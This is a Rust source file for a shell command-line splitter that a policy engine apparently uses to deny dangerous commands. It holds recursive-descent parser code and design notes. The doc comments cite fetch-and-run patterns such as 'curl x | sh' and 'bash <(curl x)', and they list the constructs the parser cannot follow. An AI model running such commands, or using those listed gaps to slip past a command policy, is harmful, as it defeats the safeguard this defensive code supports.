//! Shell command-line splitter for policy decisions.
//!
//! [`split`] parses a POSIX/bash command line into every simple command it
//! would run, so that a policy can decide each one on its own. It is used to
//! DENY dangerous commands, so it errs on the side of reporting more commands
//! and marking uncertainty ([`SimpleCommand::dynamic`]); anything it cannot
//! attribute faithfully is an `Err`, never a silently partial result.
//!
//! # Design
//!
//! The parser is a hand-written recursive-descent parser working directly on
//! the bytes of the input (all shell syntax is ASCII; other characters are
//! copied through). It was preferred over `brush-parser` because that crate
//! (0.4) panics on some inputs (`echo 99999999999>f`), recurses without a
//! depth limit in three layers whose quoting rules differ (so no pre-scan can
//! bound its stack use reliably), mis-splits `$(…)` that contains a
//! here-document with an unbalanced `)` (common in `git commit -m "$(cat
//! <<'EOF' …)"`), keeps `\$` inside backticks escaped (hiding commands), and
//! needs Rust 1.88. Every recursive construct here goes through a single depth
//! counter ([`MAX_DEPTH`]); there is no backtracking, so parsing is linear in
//! the input apart from a bounded raw scan for `((`.
//!
//! # What is reported
//!
//! * every simple command of lists, pipelines, subshells, groups, `if`,
//!   `while`/`until`, `for`/`select`, `case` (all branches), function bodies,
//!   `coproc`;
//! * the commands inside `$(…)`, backticks, `<(…)`, `>(…)`, `${…}`, `$((…))`,
//!   `[[ … ]]`, `(( … ))`, unquoted here-document bodies and here-strings;
//! * for wrappers (`env`, `sudo`, `timeout`, `xargs`, `find -exec`,
//!   `sh -c`, `eval`, …) both the wrapper command and the wrapped command(s);
//!   also the action of `trap ACTION SIGNAL…` and the script a shell reads
//!   from a here-document or here-string (`bash <<'EOF' … EOF`), both parsed
//!   like `sh -c` (an error when dynamic).
//!
//! Order: a simple command comes first, followed by the commands it wraps,
//! followed by the commands found in its words, assignments and
//! redirections (source order), followed by those of its `>(…)` process
//! substitutions.
//!
//! # Conservative choices
//!
//! * Redirections on a compound command (or function definition) are
//!   attached to every simple command inside it.
//! * Programs whose output feeds a command's standard input other than
//!   through `|` are also listed in that command's `piped_from`: commands of
//!   `<(…)` arguments/redirections, of here-strings and of unquoted
//!   here-document bodies (so `bash <(curl x)` looks like `curl x | bash`).
//!   Commands inside `>(…)` get the basename(s) of the command writing into
//!   them. Commands inside `$(…)` of a pipeline element inherit that
//!   element's `piped_from` (they share its stdin).
//! * A command consisting only of write redirections (`> file`) is reported
//!   with an empty `argv` so its `writes` are not lost.
//! * Unknown options of a wrapper are an error (we could not tell where the
//!   wrapped command starts).
//!
//! # Known limitations
//!
//! * Aliases, functions called later, `source`/`.` files and scripts run by
//!   path are not followed (they are reported as commands, not expanded).
//! * Tilde (`~`) is kept literally and does NOT make a word dynamic.
//! * Prefix assignments (`LD_PRELOAD=x cmd`) are not reported in `argv`.
//! * Bash evaluates array subscripts and arithmetic operands held in
//!   variables (`(( x ))` with `x='a[$(cmd)]'`): such indirect execution is
//!   invisible; the arithmetic itself is not reported as a command.
//! * `env -S`, a here-document whose body would start inside a `$(…)` on the
//!   same line, and a here-document without its closing delimiter are
//!   rejected rather than guessed; so are strings handed to `eval`/`sh -c`
//!   that bash itself would only reject when running them.
//! * Other programs that run commands (`ssh`, `su -c`, `watch`, `flock`,
//!   `chroot`, `unshare`, `nsenter`, `script -c`, interpreters' `-c`/`-e`,
//!   `git -c`, …) are reported as themselves only.
//! * Worst-case stack use at the maximum depth is about 400 KiB in debug
//!   builds (much less in release), so any thread with the usual 2 MiB stack
//!   is fine.

use std::ops::Range;

/// Maximum accepted input length, in bytes.
pub const MAX_INPUT_LEN: usize = 64 * 1024;

/// Maximum nesting of substitutions, subshells, compound commands, wrapper
/// unwrapping and `sh -c`/`eval` re-parsing, all counted together.
pub const MAX_DEPTH: usize = 32;

/// Maximum number of strings (commands + argv/piped_from/writes entries) in a result.
const MAX_OUTPUT_ENTRIES: usize = 1 << 20;
/// Maximum number of bytes held in the strings of a result.
const MAX_OUTPUT_BYTES: usize = 32 << 20;

/// Write targets that are never reported in [`SimpleCommand::writes`].
const HARMLESS_WRITE_TARGETS: [&str; 4] = ["/dev/null", "/dev/stdout", "/dev/stderr", "/dev/tty"];

/// One simple command that the shell line would run.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SimpleCommand {
    /// Words after quote removal. Unexpanded parameters/substitutions are kept as their literal source text (e.g. "$HOME").
    pub argv: Vec<String>,
    /// Basenames of the programs of the earlier commands in the same pipeline (for `curl x | sh`, the `sh` command has piped_from = ["curl"]). Transitive: `a | b | c` gives c ["a","b"].
    pub piped_from: Vec<String>,
    /// Redirection targets opened for writing (`>`, `>>`, `>|`, `&>`, `&>>`, `<>`, `N>`), literal text after quote removal. Exclude fd duplications like `2>&1`, and exclude /dev/null, /dev/stdout, /dev/stderr, /dev/tty.
    pub writes: Vec<String>,
    /// True when any word of argv (or a redirection target) contains an unexpanded parameter, command/arithmetic substitution, or an unquoted glob character, i.e. the real argv may differ.
    pub dynamic: bool,
}

/// Why a command line could not be split.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum ShellError {
    /// The line is not valid shell, or uses a construct that cannot be attributed faithfully.
    #[error("cannot parse shell command at byte {offset}: {message}")]
    Syntax {
        /// Byte offset in the input (approximate inside re-parsed strings such as `sh -c` arguments).
        offset: usize,
        /// What went wrong.
        message: String,
    },
    /// Nesting exceeds [`MAX_DEPTH`].
    #[error("shell command nests deeper than {limit} levels")]
    TooDeep {
        /// The nesting limit.
        limit: usize,
    },
    /// The input exceeds [`MAX_INPUT_LEN`].
    #[error("shell command is too long ({len} bytes, limit {limit})")]
    TooLong {
        /// Length of the input in bytes.
        len: usize,
        /// The length limit.
        limit: usize,
    },
}

type Res<T> = Result<T, ShellError>;

/// Splits a shell command line into the simple commands it would run.
///
/// Empty, blank or comment-only input gives `Ok(vec![])`.
///
/// # Errors
///
/// [`ShellError::Syntax`] for invalid or unsupported syntax (unterminated
/// quotes, unbalanced parentheses, `sh -c "$X"`, …), [`ShellError::TooDeep`]
/// when nesting exceeds [`MAX_DEPTH`], [`ShellError::TooLong`] when the input
/// exceeds [`MAX_INPUT_LEN`].
pub fn split(line: &str) -> Result<Vec<SimpleCommand>, ShellError> {
    if line.len() > MAX_INPUT_LEN {
        return Err(ShellError::TooLong {
            len: line.len(),
            limit: MAX_INPUT_LEN,
        });
    }
    let mut walker = Walker::default();
    walker.run_script(line, 0, 0, &Inherit::default())?;
    Ok(walker.out)
}

// ---------------------------------------------------------------------------
// Syntax tree
// ---------------------------------------------------------------------------

/// A parsed word.
#[derive(Debug, Default)]
struct Word {
    /// Text after quote removal; expansions kept as their source text.
    text: String,
    /// Contains an expansion, substitution or unquoted glob/brace pattern.
    dynamic: bool,
    /// Command lists nested in the word.
    subs: Vec<Sub>,
    /// Absolute byte offset of the word.
    start: usize,
    /// Only unquoted literal characters.
    plain: bool,
    /// Contains quotes or backslash escapes.
    quoted: bool,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum SubKind {
    /// `$(…)`, backticks, and commands found in `${…}`/arithmetic.
    Command,
    /// `<(…)`
    ProcIn,
    /// `>(…)`
    ProcOut,
}

#[derive(Debug)]
struct Sub {
    kind: SubKind,
    list: List,
}

type List = Vec<Pipeline>;

#[derive(Debug)]
struct Pipeline {
    /// `time` / `time -p` keyword prefix.
    timed: Vec<String>,
    cmds: Vec<Command>,
}

#[derive(Debug)]
enum Command {
    Simple(Simple),
    Compound(Compound),
}

#[derive(Debug, Default)]
struct Simple {
    assigns: Vec<Word>,
    words: Vec<Word>,
    redirs: Vec<Redir>,
}

/// Any compound command: the words it evaluates itself (for-lists, case
/// subject and patterns, `[[ ]]` operands, arithmetic) and its command lists.
#[derive(Debug, Default)]
struct Compound {
    words: Vec<Word>,
    lists: Vec<List>,
    redirs: Vec<Redir>,
}

#[derive(Debug)]
struct Redir {
    kind: RedirKind,
    /// Target file / fd word, here-document delimiter, or here-string.
    target: Word,
    /// Index of the here-document body in [`Shared::bodies`].
    heredoc: Option<usize>,
    /// Applies to file descriptor 0 (no fd number, or `0`).
    stdin: bool,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum RedirKind {
    Read,
    Write,
    Dup,
    HereDoc,
    HereString,
}

/// State shared by a parser and the sub-parsers it starts (backticks,
/// here-document bodies).
#[derive(Debug, Default)]
struct Shared {
    bodies: Vec<Option<Word>>,
}

#[derive(Debug)]
struct Pending {
    delim: String,
    strip_tabs: bool,
    quoted: bool,
    id: usize,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Ctx {
    Unquoted,
    Dq,
    Heredoc,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum WordMode {
    Normal,
    /// Right-hand side of `=~` in `[[ ]]`: parentheses and `|` belong to the word.
    Regex,
}

const KEYWORDS: [&str; 22] = [
    "if", "then", "elif", "else", "fi", "do", "done", "case", "esac", "while", "until", "for",
    "select", "in", "function", "time", "coproc", "{", "}", "!", "[[", "]]",
];

fn is_meta(c: u8) -> bool {
    matches!(
        c,
        b' ' | b'\t' | b'\n' | b';' | b'&' | b'|' | b'(' | b')' | b'<' | b'>'
    )
}

fn is_name_start(c: u8) -> bool {
    c.is_ascii_alphabetic() || c == b'_'
}

fn is_name_char(c: u8) -> bool {
    c.is_ascii_alphanumeric() || c == b'_'
}

/// Glob / brace-expansion tracking for the unquoted characters of a word.
#[derive(Debug, Default)]
struct Glob {
    bracket: bool,
    brace: bool,
    brace_sep: bool,
    prev_dot: bool,
    last_ext: bool,
}

impl Word {
    fn new(start: usize) -> Self {
        Word {
            start,
            plain: true,
            ..Word::default()
        }
    }

    fn literal(&mut self, ch: char, g: &mut Glob) {
        self.text.push(ch);
        match ch {
            '*' | '?' => self.dynamic = true,
            '[' => g.bracket = true,
            ']' if g.bracket => self.dynamic = true,
            '{' => {
                g.brace = true;
                g.brace_sep = false;
            }
            ',' if g.brace => g.brace_sep = true,
            '.' if g.brace && g.prev_dot => g.brace_sep = true,
            '}' if g.brace && g.brace_sep => self.dynamic = true,
            _ => {}
        }
        g.prev_dot = ch == '.';
        g.last_ext = matches!(ch, '?' | '*' | '+' | '@' | '!');
    }

    fn quoted_char(&mut self, ch: char) {
        self.text.push(ch);
        self.plain = false;
        self.quoted = true;
    }

    fn quoted_str(&mut self, s: &str) {
        self.text.push_str(s);
        self.plain = false;
        self.quoted = true;
    }

    fn expansion(&mut self, raw: &str) {
        self.text.push_str(raw);
        self.plain = false;
        self.dynamic = true;
    }
}

// ---------------------------------------------------------------------------
// Parser
// ---------------------------------------------------------------------------

struct Parser<'a, 's> {
    src: &'a str,
    b: &'a [u8],
    pos: usize,
    /// Absolute offset of `src` in the top-level input (for errors).
    base: usize,
    depth: usize,
    /// Here-documents whose bodies start after the next newline.
    pending: Vec<Pending>,
    /// Number of enclosing substitutions that have pending here-documents.
    outer_pending: usize,
    shared: &'s mut Shared,
}

impl<'a, 's> Parser<'a, 's> {
    fn new(src: &'a str, base: usize, depth: usize, shared: &'s mut Shared) -> Self {
        Parser {
            src,
            b: src.as_bytes(),
            pos: 0,
            base,
            depth,
            pending: Vec::new(),
            outer_pending: 0,
            shared,
        }
    }

    // ----- helpers -------------------------------------------------------

    fn err_at<T>(&self, pos: usize, msg: impl Into<String>) -> Res<T> {
        Err(ShellError::Syntax {
            offset: self.base + pos.min(self.b.len()),
            message: msg.into(),
        })
    }

    fn err<T>(&self, msg: impl Into<String>) -> Res<T> {
        self.err_at(self.pos, msg)
    }

    fn err_unexpected<T>(&self) -> Res<T> {
        match self.peek_keyword() {
            Some(k) => self.err(format!("unexpected '{k}'")),
            None => match self.peek() {
                None => self.err("unexpected end of input"),
                Some(b'\n') => self.err("unexpected newline"),
                Some(c) => self.err(format!("unexpected '{}'", char::from(c))),
            },
        }
    }

    fn peek(&self) -> Option<u8> {
        self.b.get(self.pos).copied()
    }

    fn peek_at(&self, n: usize) -> Option<u8> {
        self.b.get(self.pos + n).copied()
    }

    fn starts_with(&self, s: &str) -> bool {
        self.b
            .get(self.pos..)
            .is_some_and(|r| r.starts_with(s.as_bytes()))
    }

    fn slice(&self, a: usize, b: usize) -> Res<&'a str> {
        let src = self.src;
        match src.get(a..b) {
            Some(s) => Ok(s),
            None => self.err_at(a, "internal error: invalid text boundary"),
        }
    }

    /// Consumes and returns the character at the current position.
    fn bump_char(&mut self) -> char {
        match self.src.get(self.pos..).and_then(|s| s.chars().next()) {
            Some(c) => {
                self.pos += c.len_utf8();
                c
            }
            None => {
                self.pos += 1;
                char::REPLACEMENT_CHARACTER
            }
        }
    }

    fn find_byte(&self, from: usize, c: u8) -> Option<usize> {
        self.b
            .get(from..)
            .and_then(|r| r.iter().position(|&x| x == c))
            .map(|i| from + i)
    }

    fn enter(&mut self) -> Res<()> {
        self.depth += 1;
        if self.depth > MAX_DEPTH {
            return Err(ShellError::TooDeep { limit: MAX_DEPTH });
        }
        Ok(())
    }

    /// Parentheses counted inside arithmetic / patterns also obey [`MAX_DEPTH`].
    fn check_paren_depth(&self, parens: usize) -> Res<()> {
        if self.depth + parens > MAX_DEPTH {
            return Err(ShellError::TooDeep { limit: MAX_DEPTH });
        }
        Ok(())
    }

    fn leave(&mut self) {
        self.depth = self.depth.saturating_sub(1);
    }

    /// The reserved word at the current position, if any.
    fn peek_keyword(&self) -> Option<&'static str> {
        let rest = self.b.get(self.pos..)?;
        let n = rest
            .iter()
            .position(|&c| is_meta(c) || matches!(c, b'\'' | b'"' | b'\\' | b'`' | b'$'))
            .unwrap_or(rest.len());
        if rest.get(n).is_some_and(|&c| !is_meta(c)) {
            return None;
        }
        let run = rest.get(..n)?;
        KEYWORDS.iter().find(|k| k.as_bytes() == run).copied()
    }

    fn skip_blanks(&mut self) {
        loop {
            match self.peek() {
                Some(b' ' | b'\t') => self.pos += 1,
                Some(b'\\') if self.peek_at(1) == Some(b'\n') => self.pos += 2,
                _ => break,
            }
        }
    }

    fn skip_comment(&mut self) {
        if self.peek() == Some(b'#') {
            self.pos = self.find_byte(self.pos, b'\n').unwrap_or(self.b.len());
        }
    }

    fn skip_blanks_comments(&mut self) {
        self.skip_blanks();
        self.skip_comment();
    }

    /// Skips blanks, comments and newlines (reading pending here-documents).
    fn linebreak(&mut self) -> Res<()> {
        loop {
            self.skip_blanks_comments();
            if self.peek() == Some(b'\n') {
                self.consume_newline()?;
            } else {
                return Ok(());
            }
        }
    }

    fn consume_newline(&mut self) -> Res<()> {
        self.pos += 1;
        if self.outer_pending > 0 {
            return self.err_at(
                self.pos - 1,
                "newline inside a substitution while a here-document is pending",
            );
        }
        for p in std::mem::take(&mut self.pending) {
            self.read_heredoc(p)?;
        }
        Ok(())
    }

    fn read_heredoc(&mut self, p: Pending) -> Res<()> {
        let body_start = self.pos;
        let mut body = String::new();
        loop {
            if self.pos >= self.b.len() {
                return self.err_at(
                    body_start,
                    format!("here-document delimited by '{}' is not terminated", p.delim),
                );
            }
            let end = self.find_byte(self.pos, b'\n').unwrap_or(self.b.len());
            let line = self.slice(self.pos, end)?;
            let line = if p.strip_tabs {
                line.trim_start_matches('\t')
            } else {
                line
            };
            self.pos = if end < self.b.len() { end + 1 } else { end };
            if line == p.delim {
                break;
            }
            body.push_str(line);
            body.push('\n');
        }
        let word = if p.quoted {
            let mut w = Word::new(self.base + body_start);
            w.quoted_str(&body);
            w
        } else {
            self.parse_heredoc_text(&body, self.base + body_start)?
        };
        match self.shared.bodies.get_mut(p.id) {
            Some(slot) => *slot = Some(word),
            None => return self.err("internal error: unknown here-document"),
        }
        Ok(())
    }

    /// Parses `text` like an unquoted here-document body: only `$…`, backticks
    /// and `\$`, `` \` ``, `\\`, `\<newline>` are special.
    fn parse_heredoc_text(&mut self, text: &str, base: usize) -> Res<Word> {
        let mut sub = Parser::new(text, base, self.depth, self.shared);
        let mut w = Word::new(base);
        w.plain = false;
        while let Some(c) = sub.peek() {
            match c {
                b'\\' => match sub.peek_at(1) {
                    Some(e @ (b'$' | b'`' | b'\\')) => {
                        w.text.push(char::from(e));
                        sub.pos += 2;
                    }
                    Some(b'\n') => sub.pos += 2,
                    _ => {
                        w.text.push('\\');
                        sub.pos += 1;
                    }
                },
                b'$' => sub.parse_dollar(&mut w, Ctx::Heredoc)?,
                b'`' => sub.parse_backtick(&mut w, false)?,
                _ => {
                    let ch = sub.bump_char();
                    w.text.push(ch);
                }
            }
        }
        Ok(w)
    }

    /// Runs `f` as a nested command list (`$(…)`, `<(…)`), isolating the
    /// here-documents pending outside of it.
    fn with_nested<T>(&mut self, f: impl FnOnce(&mut Self) -> Res<T>) -> Res<T> {
        let saved = std::mem::take(&mut self.pending);
        let had = !saved.is_empty();
        if had {
            self.outer_pending += 1;
        }
        let r = f(self);
        if had {
            self.outer_pending = self.outer_pending.saturating_sub(1);
        }
        let inner = std::mem::replace(&mut self.pending, saved);
        let v = r?;
        if !inner.is_empty() {
            return self.err("here-document inside a substitution is not terminated inside it");
        }
        Ok(v)
    }

    // ----- lists -----------------------------------------------------------

    fn parse_script(&mut self) -> Res<List> {
        let list = self.parse_list()?;
        self.skip_blanks_comments();
        if self.peek().is_some() {
            return self.err_unexpected();
        }
        if !self.pending.is_empty() {
            return self.err("here-document is not terminated");
        }
        Ok(list)
    }

    fn at_terminator(&self) -> bool {
        match self.peek() {
            None | Some(b')') => true,
            Some(b';') => matches!(self.peek_at(1), Some(b';' | b'&')),
            _ => matches!(
                self.peek_keyword(),
                Some("}" | "then" | "elif" | "else" | "fi" | "do" | "done" | "esac")
            ),
        }
    }

    fn parse_list(&mut self) -> Res<List> {
        let mut list = Vec::new();
        loop {
            self.linebreak()?;
            if self.at_terminator() {
                break;
            }
            self.parse_and_or(&mut list)?;
            self.skip_blanks_comments();
            match self.peek() {
                Some(b';') if !matches!(self.peek_at(1), Some(b';' | b'&')) => self.pos += 1,
                Some(b'&') if !matches!(self.peek_at(1), Some(b'&' | b'>')) => self.pos += 1,
                Some(b'\n') => self.consume_newline()?,
                _ => break,
            }
        }
        Ok(list)
    }

    /// A list that must contain at least one command (compound bodies).
    fn body_list(&mut self) -> Res<List> {
        let list = self.parse_list()?;
        if list.is_empty() {
            return self.err_unexpected();
        }
        Ok(list)
    }

    fn parse_and_or(&mut self, out: &mut List) -> Res<()> {
        out.push(self.parse_pipeline()?);
        loop {
            self.skip_blanks();
            if self.starts_with("&&") || self.starts_with("||") {
                self.pos += 2;
                self.linebreak()?;
                out.push(self.parse_pipeline()?);
            } else {
                return Ok(());
            }
        }
    }

    fn parse_pipeline(&mut self) -> Res<Pipeline> {
        self.skip_blanks();
        let mut timed = Vec::new();
        if self.peek_keyword() == Some("time") {
            self.pos += 4;
            timed.push("time".to_string());
            self.skip_blanks();
            let is_p = self
                .b
                .get(self.pos..)
                .is_some_and(|r| r.starts_with(b"-p") && r.get(2).is_none_or(|&c| is_meta(c)));
            if is_p {
                self.pos += 2;
                timed.push("-p".to_string());
                self.skip_blanks();
            }
        }
        let mut bang = false;
        while self.peek_keyword() == Some("!") {
            self.pos += 1;
            bang = true;
            self.skip_blanks();
        }
        if (bang || !timed.is_empty())
            && (self.at_terminator() || matches!(self.peek(), Some(b';' | b'&' | b'\n' | b'#')))
        {
            return Ok(Pipeline {
                timed,
                cmds: Vec::new(),
            });
        }
        let mut cmds = vec![self.parse_command()?];
        loop {
            self.skip_blanks();
            if self.starts_with("||") {
                break;
            }
            if self.starts_with("|&") {
                self.pos += 2;
            } else if self.peek() == Some(b'|') {
                self.pos += 1;
            } else {
                break;
            }
            self.linebreak()?;
            cmds.push(self.parse_command()?);
        }
        Ok(Pipeline { timed, cmds })
    }

    // ----- commands --------------------------------------------------------

    fn parse_command(&mut self) -> Res<Command> {
        self.skip_blanks();
        if let Some(kw) = self.peek_keyword() {
            match kw {
                "{" => return self.compound(Self::brace_group),
                "if" => return self.compound(Self::if_clause),
                "while" | "until" => return self.compound(Self::while_clause),
                "for" | "select" => return self.compound(Self::for_clause),
                "case" => return self.compound(Self::case_clause),
                "[[" => return self.compound(Self::cond_command),
                "function" => return self.function_keyword(),
                "coproc" => return self.coproc(),
                "}" | "then" | "elif" | "else" | "fi" | "do" | "done" | "esac" | "]]" | "!" => {
                    return self.err(format!("unexpected '{kw}'"));
                }
                _ => {}
            }
        }
        if self.peek() == Some(b'(') {
            if self.peek_at(1) == Some(b'(') && self.dparen_is_arith(self.pos + 2) {
                return self.compound(Self::arith_command);
            }
            return self.compound(Self::subshell);
        }
        self.parse_simple()
    }

    /// Parses a compound command with `f` (one nesting level), then its
    /// trailing redirections.
    fn compound(&mut self, f: fn(&mut Self) -> Res<Compound>) -> Res<Command> {
        self.enter()?;
        let r = f(self);
        self.leave();
        let mut c = r?;
        loop {
            self.skip_blanks();
            match self.try_parse_redirect()? {
                Some(r) => c.redirs.push(r),
                None => break,
            }
        }
        Ok(Command::Compound(c))
    }

    fn expect_keyword(&mut self, kw: &str) -> Res<()> {
        self.skip_blanks_comments();
        if self.peek_keyword() == Some(kw) {
            self.pos += kw.len();
            Ok(())
        } else if self.peek().is_none() {
            self.err(format!("expected '{kw}' before end of input"))
        } else {
            self.err(format!("expected '{kw}'"))
        }
    }

    fn brace_group(&mut self) -> Res<Compound> {
        self.pos += 1;
        let list = self.body_list()?;
        self.expect_keyword("}")?;
        Ok(Compound {
            lists: vec![list],
            ..Compound::default()
        })
    }

    fn subshell(&mut self) -> Res<Compound> {
        let open = self.pos;
        self.pos += 1;
        let list = self.body_list()?;
        self.skip_blanks_comments();
        if self.peek() != Some(b')') {
            if self.peek().is_none() {
                return self.err_at(open, "unterminated '('");
            }
            return self.err_unexpected();
        }
        self.pos += 1;
        Ok(Compound {
            lists: vec![list],
            ..Compound::default()
        })
    }

    fn arith_command(&mut self) -> Res<Compound> {
        let start = self.pos;
        self.pos += 2;
        let mut w = Word::new(self.base + start);
        self.arith_body(&mut w, b')')?;
        w.text = self.slice(start, self.pos)?.to_string();
        w.dynamic = true;
        w.plain = false;
        Ok(Compound {
            words: vec![w],
            ..Compound::default()
        })
    }

    fn if_clause(&mut self) -> Res<Compound> {
        self.pos += 2;
        let mut c = Compound::default();
        c.lists.push(self.body_list()?);
        self.expect_keyword("then")?;
        c.lists.push(self.body_list()?);
        loop {
            self.skip_blanks_comments();
            match self.peek_keyword() {
                Some("elif") => {
                    self.pos += 4;
                    c.lists.push(self.body_list()?);
                    self.expect_keyword("then")?;
                    c.lists.push(self.body_list()?);
                }
                Some("else") => {
                    self.pos += 4;
                    c.lists.push(self.body_list()?);
                    self.expect_keyword("fi")?;
                    return Ok(c);
                }
                Some("fi") => {
                    self.pos += 2;
                    return Ok(c);
                }
                _ => return self.expect_keyword("fi").map(|()| c),
            }
        }
    }

    fn while_clause(&mut self) -> Res<Compound> {
        self.pos += 5; // "while" and "until" have the same length
        let mut c = Compound::default();
        c.lists.push(self.body_list()?);
        self.do_group(&mut c)?;
        Ok(c)
    }

    fn do_group(&mut self, c: &mut Compound) -> Res<()> {
        self.skip_blanks_comments();
        match self.peek_keyword() {
            Some("do") => {
                self.pos += 2;
                c.lists.push(self.body_list()?);
                self.expect_keyword("done")
            }
            Some("{") => {
                self.pos += 1;
                c.lists.push(self.body_list()?);
                self.expect_keyword("}")
            }
            _ => self.expect_keyword("do"),
        }
    }

    fn for_clause(&mut self) -> Res<Compound> {
        let is_for = self.starts_with("for");
        self.pos += if is_for { 3 } else { 6 };
        self.skip_blanks();
        let mut c = Compound::default();
        if is_for && self.starts_with("((") {
            let start = self.pos;
            self.pos += 2;
            let mut w = Word::new(self.base + start);
            self.arith_body(&mut w, b')')?;
            w.text = self.slice(start, self.pos)?.to_string();
            w.dynamic = true;
            c.words.push(w);
            self.skip_blanks();
            if self.peek() == Some(b';') {
                self.pos += 1;
            }
            self.linebreak()?;
            self.do_group(&mut c)?;
            return Ok(c);
        }
        if self.peek().is_none_or(is_meta) {
            return self.err("expected a variable name after 'for'");
        }
        let name = self.parse_word(WordMode::Normal)?;
        if !name.plain {
            return self.err_at(name.start - self.base, "invalid variable name in 'for'");
        }
        self.skip_blanks_comments();
        if self.peek() == Some(b';') {
            self.pos += 1;
        } else {
            self.linebreak()?;
            if self.peek_keyword() == Some("in") {
                self.pos += 2;
                loop {
                    self.skip_blanks_comments();
                    match self.peek() {
                        Some(b';') => {
                            self.pos += 1;
                            break;
                        }
                        Some(b'\n') => {
                            self.consume_newline()?;
                            break;
                        }
                        None => return self.err("expected 'do' before end of input"),
                        Some(c2)
                            if is_meta(c2)
                                && !(matches!(c2, b'<' | b'>')
                                    && self.peek_at(1) == Some(b'(')) =>
                        {
                            return self.err_unexpected()
                        }
                        _ => c.words.push(self.parse_word(WordMode::Normal)?),
                    }
                }
            }
        }
        self.linebreak()?;
        self.do_group(&mut c)?;
        Ok(c)
    }

    fn case_clause(&mut self) -> Res<Compound> {
        self.pos += 4;
        self.skip_blanks();
        if self.peek().is_none_or(is_meta) {
            return self.err("expected a word after 'case'");
        }
        let mut c = Compound::default();
        c.words.push(self.parse_word(WordMode::Normal)?);
        self.linebreak()?;
        self.expect_keyword("in")?;
        loop {
            self.linebreak()?;
            if self.peek_keyword() == Some("esac") {
                self.pos += 4;
                return Ok(c);
            }
            if self.peek() == Some(b'(') {
                self.pos += 1;
            }
            loop {
                self.skip_blanks();
                if self.peek().is_none_or(is_meta) {
                    return self.err("expected a case pattern");
                }
                c.words.push(self.parse_word(WordMode::Normal)?);
                self.skip_blanks();
                match self.peek() {
                    Some(b'|') => self.pos += 1,
                    Some(b')') => {
                        self.pos += 1;
                        break;
                    }
                    _ => return self.err("expected ')' after case pattern"),
                }
            }
            c.lists.push(self.parse_list()?);
            self.skip_blanks_comments();
            if self.starts_with(";;&") {
                self.pos += 3;
            } else if self.starts_with(";;") || self.starts_with(";&") {
                self.pos += 2;
            } else if self.peek_keyword() != Some("esac") {
                if self.peek().is_none() {
                    return self.err("expected 'esac' before end of input");
                }
                return self.err_unexpected();
            }
        }
    }

    fn cond_command(&mut self) -> Res<Compound> {
        let open = self.pos;
        self.pos += 2;
        let mut c = Compound::default();
        loop {
            self.linebreak()?;
            if self.peek_keyword() == Some("]]") {
                self.pos += 2;
                return Ok(c);
            }
            match self.peek() {
                None => return self.err_at(open, "unterminated '[['"),
                Some(b'(' | b')') => self.pos += 1,
                Some(b'&') if self.peek_at(1) == Some(b'&') => self.pos += 2,
                Some(b'|') if self.peek_at(1) == Some(b'|') => self.pos += 2,
                Some(b'<' | b'>') if self.peek_at(1) != Some(b'(') => self.pos += 1,
                Some(ch) if is_meta(ch) && !matches!(ch, b'<' | b'>') => {
                    return self.err_unexpected()
                }
                _ => {
                    let w = self.parse_word(WordMode::Normal)?;
                    let regex_op = w.plain && w.text == "=~";
                    c.words.push(w);
                    if regex_op {
                        self.skip_blanks();
                        if self.peek().is_none_or(|ch| is_meta(ch) && ch != b'(') {
                            return self.err("expected a regular expression after '=~'");
                        }
                        c.words.push(self.parse_word(WordMode::Regex)?);
                    }
                }
            }
        }
    }

    fn function_keyword(&mut self) -> Res<Command> {
        self.pos += 8;
        self.skip_blanks();
        if self.peek().is_none_or(is_meta) {
            return self.err("expected a function name");
        }
        let name = self.parse_word(WordMode::Normal)?;
        if name.dynamic {
            return self.err_at(name.start - self.base, "invalid function name");
        }
        self.skip_blanks();
        if self.peek() == Some(b'(') {
            self.pos += 1;
            self.skip_blanks();
            if self.peek() != Some(b')') {
                return self.err("expected ')' in function definition");
            }
            self.pos += 1;
        }
        self.function_body()
    }

    fn function_body(&mut self) -> Res<Command> {
        self.linebreak()?;
        let body_pos = self.pos;
        match self.parse_command()? {
            Command::Compound(c) => Ok(Command::Compound(c)),
            Command::Simple(_) => self.err_at(body_pos, "function body must be a compound command"),
        }
    }

    fn coproc(&mut self) -> Res<Command> {
        self.pos += 6;
        self.skip_blanks();
        // `coproc NAME { …; }` / `coproc NAME ( … )`: skip the name.
        let rest = self.b.get(self.pos..).unwrap_or_default();
        if rest.first().is_some_and(|&c| is_name_start(c)) {
            let n = rest.iter().take_while(|&&c| is_name_char(c)).count();
            let after = rest.get(n..).unwrap_or_default();
            let blanks = after
                .iter()
                .take_while(|&&c| c == b' ' || c == b'\t')
                .count();
            let next = after.get(blanks..).unwrap_or_default();
            let opens = next.first() == Some(&b'(')
                || (next.first() == Some(&b'{') && next.get(1).is_none_or(|&c| is_meta(c)));
            if blanks > 0 && opens {
                self.pos += n + blanks;
            }
        }
        self.parse_command()
    }

    fn parse_simple(&mut self) -> Res<Command> {
        let mut s = Simple::default();
        loop {
            self.skip_blanks();
            let Some(c) = self.peek() else { break };
            if c == b'#' {
                self.skip_comment();
                break;
            }
            if let Some(r) = self.try_parse_redirect()? {
                s.redirs.push(r);
                continue;
            }
            let procsub = matches!(c, b'<' | b'>') && self.peek_at(1) == Some(b'(');
            if is_meta(c) && !procsub {
                if c == b'(' {
                    if s.words.len() == 1 && s.assigns.is_empty() && s.redirs.is_empty() {
                        return self.function_parens(&s.words);
                    }
                    return self.err("unexpected '('");
                }
                break;
            }
            let is_assign = self.assignment_prefix_len().is_some();
            if is_assign {
                let w = self.parse_assignment_word()?;
                if s.words.is_empty() {
                    s.assigns.push(w);
                } else {
                    s.words.push(w);
                }
            } else {
                let w = self.parse_word(WordMode::Normal)?;
                s.words.push(w);
            }
        }
        if s.words.is_empty() && s.assigns.is_empty() && s.redirs.is_empty() {
            return self.err_unexpected();
        }
        Ok(Command::Simple(s))
    }

    /// `name ( )` seen after a single word: a function definition.
    fn function_parens(&mut self, words: &[Word]) -> Res<Command> {
        if words.iter().any(|w| w.dynamic) {
            return self.err("invalid function name");
        }
        self.pos += 1;
        self.skip_blanks();
        if self.peek() != Some(b')') {
            return self.err("expected ')' in function definition");
        }
        self.pos += 1;
        self.function_body()
    }

    /// Length of `NAME=`, `NAME+=` or `NAME[…]=` at the current position.
